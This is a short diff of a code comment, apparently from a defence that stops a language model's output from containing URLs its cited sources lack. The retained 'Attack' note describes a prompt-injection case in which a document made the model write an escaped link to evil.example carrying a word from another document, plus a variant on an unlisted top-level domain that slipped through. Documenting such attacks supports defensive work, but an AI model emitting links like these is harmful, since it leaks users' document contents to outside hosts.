@@ -1,6 +1,6 @@
 /**
- * Promise: A sentence of a language model contains no URL that its cited sentences lack, in any spelling
- * that Markdown clients turn into a link, drafts included.
+ * Promise: Sentences and drafts of a language model contain no URL that the cited sentences lack, in any
+ * spelling that a Markdown client links.
  * Attack: A document made the model write `https:\/\/evil.example\/SWORDFISH` with a word of another
  * document. Markdown clients remove the backslashes and create a link. `SWORDFISH.evil.museum` passed too,
  * because `museum` was on no list.
